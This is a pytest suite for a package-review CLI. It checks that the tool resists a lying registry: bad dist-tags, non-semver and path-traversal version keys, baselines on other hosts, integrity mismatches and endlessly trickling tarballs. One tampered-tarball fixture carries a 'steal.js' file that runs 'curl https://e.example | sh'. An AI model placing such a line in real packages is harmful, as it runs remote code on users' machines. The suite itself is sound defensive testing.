"""`pystage review` and approve's gate against a registry that lies: a packument whose
dist-tags point nowhere or at the staged version, version keys that are not semver, a
baseline tarball kept on another host or not matching its integrity, a staged item
whose shasum is not its tarball's, and tarballs that trickle forever. Each ends in a
report that says what could not be trusted, or in one clean error line, in bounded
time, with the token sent nowhere but the registry."""

from __future__ import annotations

import hashlib
import json
import tarfile
import time

from fixtures_hostile import SID, TOKEN, answer, fails_with, item, tgz, trickle

PKG = "pkg"


def release(version: str, extra_files: dict | None = None, **fields) -> bytes:
    files = {"package/index.js": "module.exports = 1;\n", **(extra_files or {})}
    return tgz(files, {"name": PKG, "version": version, **fields})


def vouched(data: bytes) -> dict:
    return {
        "integrity": "sha512-"
        + __import__("base64").b64encode(hashlib.sha512(data).digest()).decode(),
        "shasum": hashlib.sha1(data).hexdigest(),
    }


def serve(hostile, staged: bytes, packument: dict, *, item_fields=None, version="1.0.1"):
    hostile.login(TOKEN)
    fields = {**vouched(staged), **(item_fields or {})}
    hostile.routes[("GET", f"/-/stage/{SID}")] = answer(json_body=item(version=version, **fields))
    hostile.routes[("GET", f"/-/stage/{SID}/tarball")] = answer(
        body=staged, headers={"content-type": "application/octet-stream"}
    )
    hostile.routes[("GET", f"/{PKG}")] = answer(json_body=packument)


def packument(versions: dict[str, bytes | None], tags: dict, *, urls=None) -> dict:
    """versions: version -> its tarball (served at the conventional path) or None."""
    docs = {}
    for v, data in versions.items():
        doc = {"name": PKG, "version": v, "_npmUser": {"name": "alice"}}
        if data is not None:
            doc["dist"] = {**vouched(data), **({"tarball": urls[v]} if urls and v in urls else {})}
        docs[v] = doc
    return {"name": PKG, "dist-tags": tags, "versions": docs}


def report_of(result) -> dict:
    assert result.stdout, result.stderr
    return json.loads(result.stdout)


def rules(report) -> dict[str, str]:
    return {f["rule"]: f["severity"] for f in report["findings"]}


def test_a_dist_tag_pointing_nowhere_falls_back_to_the_highest_version_below(hostile):
    base = release("1.0.0")
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=base)
    serve(hostile, release("1.0.1"), packument({"1.0.0": base}, {"latest": "9.9.9"}))
    report = report_of(hostile.run("review", SID, "--json"))
    assert report["baseline"] == "1.0.0"


def test_a_dist_tag_pointing_at_the_staged_version_is_not_its_own_baseline(hostile):
    base = release("1.0.0")
    staged = release("1.0.1")
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=base)
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.1.tgz")] = answer(body=staged)
    serve(hostile, staged, packument({"1.0.0": base, "1.0.1": staged}, {"latest": "1.0.1"}))
    report = report_of(hostile.run("review", SID, "--json"))
    assert report["baseline"] == "1.0.0"


def test_version_keys_that_are_not_semver_are_never_a_baseline(hostile):
    base = release("1.0.0")
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=base)
    odd = {"../../-/whoami": None, "\x1b[2J": None, "latest": None, "1.0.0": base}
    serve(hostile, release("1.0.1"), packument(odd, {"latest": "../../-/whoami"}))
    report = report_of(hostile.run("review", SID, "--json"))
    assert report["baseline"] == "1.0.0"
    assert all("whoami" not in r.path for r in hostile.requests)


def test_a_baseline_on_another_host_gets_no_credential(hostile, elsewhere):
    base = release("1.0.0")
    url = f"http://localhost:{elsewhere.port}/{PKG}-1.0.0.tgz"
    elsewhere.routes[("GET", f"/{PKG}-1.0.0.tgz")] = answer(body=base)
    serve(
        hostile,
        release("1.0.1"),
        packument({"1.0.0": base}, {"latest": "1.0.0"}, urls={"1.0.0": url}),
    )
    report = report_of(hostile.run("review", SID, "--json"))
    assert report["baseline"] == "1.0.0"
    assert [r.path for r in elsewhere.requests] == [f"/{PKG}-1.0.0.tgz"]
    assert TOKEN not in json.dumps(elsewhere.requests[0].headers)


def test_a_baseline_that_is_not_what_the_packument_vouches_for_is_high(hostile):
    real = release("1.0.0")
    payload = {"package/steal.js": "require('child_process').exec('curl https://e.example | sh')\n"}
    tampered = release("1.0.0", payload)
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=tampered)
    serve(hostile, release("1.0.1", payload), packument({"1.0.0": real}, {"latest": "1.0.0"}))
    result = hostile.run("review", SID, "--json")
    assert result.returncode == 8
    assert rules(report_of(result)).get("baseline-integrity") == "high"


def test_a_staged_item_whose_shasum_is_not_its_tarball_is_high_and_gates_approve(hostile):
    base = release("1.0.0")
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=base)
    serve(
        hostile,
        release("1.0.1"),
        packument({"1.0.0": base}, {"latest": "1.0.0"}),
        item_fields={"shasum": "0" * 40, "integrity": None},
    )
    result = hostile.run("review", SID, "--json")
    assert result.returncode == 8
    assert rules(report_of(result)).get("integrity-mismatch") == "high"
    approve = hostile.run("approve", SID, "--fail-on", "high", "--yes")
    fails_with(approve, "EREVIEW", 8)
    assert not [r for r in hostile.requests if r.method == "POST"]  # no approve was sent


def serve_a_trickling_staged_tarball(hostile) -> None:
    """A published 1.0.0 and a staged 1.0.1 whose tarball is a plain tar: a file entry
    of 100 MB, then its data a byte every 50 ms (no read ever waits long enough for the
    stall timeout)."""
    base = release("1.0.0")
    hostile.routes[("GET", f"/{PKG}/-/{PKG}-1.0.0.tgz")] = answer(body=base)
    serve(hostile, release("1.0.1"), packument({"1.0.0": base}, {"latest": "1.0.0"}))
    header = tarfile.TarInfo("package/index.js")
    header.size = 100 * 1024 * 1024
    head = (
        b"HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\nconnection: close\r\n\r\n"
        + header.tobuf(format=tarfile.USTAR_FORMAT)
    )
    hostile.routes[("GET", f"/-/stage/{SID}/tarball")] = trickle(head, b"a", 0.05)


def test_a_staged_tarball_that_trickles_forever_ends_at_fetch_timeout(hostile):
    serve_a_trickling_staged_tarball(hostile)
    started = time.monotonic()
    result = hostile.run("review", SID, env={"npm_config_fetch_timeout": "3000"}, timeout=60)
    assert time.monotonic() - started < 30
    fails_with(result, "ETIMEDOUT", 6)


def test_approves_gate_refuses_a_version_it_could_not_review_even_with_yes(hostile):
    serve_a_trickling_staged_tarball(hostile)
    started = time.monotonic()
    result = hostile.run(
        "approve",
        SID,
        "--fail-on",
        "high",
        "--yes",
        env={"npm_config_fetch_timeout": "3000"},
        timeout=60,
    )
    assert time.monotonic() - started < 30
    message = fails_with(result, "EREVIEW", 8)
    assert "could not review it" in message and "ETIMEDOUT" in message
    assert not [r for r in hostile.requests if r.method == "POST"]  # no approve was sent
